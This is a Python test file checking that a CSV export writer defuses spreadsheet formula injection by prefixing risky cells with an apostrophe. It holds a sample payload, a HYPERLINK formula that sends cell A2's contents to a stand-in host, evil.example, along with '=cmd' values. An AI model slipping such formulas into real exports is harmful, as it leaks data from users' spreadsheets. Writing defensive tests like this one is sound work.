"""Export writers: CSV cells that a spreadsheet would run as formulas are defused."""

from __future__ import annotations

import csv
import io
import json

from storyline.render.export import write_records


def _csv(records: list[dict]) -> list[dict[str, str]]:
    out = io.StringIO()
    assert write_records(iter(records), "csv", out) == len(records)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_csv_defuses_formula_text_and_keeps_the_rest() -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    rows = _csv(
        [
            {"title": hostile, "author": "@handle", "outlet": "+1 News", "similarity": -0.5},
            {
                "title": "-30 degrees in Oslo",
                "author": "Ann Lee",
                "outlet": "\tTab",
                "similarity": 1,
            },
        ]
    )
    assert rows[0]["title"] == "'" + hostile
    assert rows[0]["author"] == "'@handle" and rows[0]["outlet"] == "'+1 News"
    assert rows[1]["title"] == "'-30 degrees in Oslo" and rows[1]["outlet"] == "'\tTab"
    # numbers are values, not text a user typed: they stay as they are
    assert rows[0]["similarity"] == "-0.5" and rows[1]["similarity"] == "1"
    assert rows[1]["author"] == "Ann Lee"


def test_csv_lists_are_json_and_json_formats_are_untouched() -> None:
    record = {"aliases": ["=cmd", "Xi"], "name": "=cmd"}
    rows = _csv([record])
    assert json.loads(rows[0]["aliases"]) == ["=cmd", "Xi"]
    out = io.StringIO()
    write_records(iter([record]), "jsonl", out)
    assert json.loads(out.getvalue()) == record
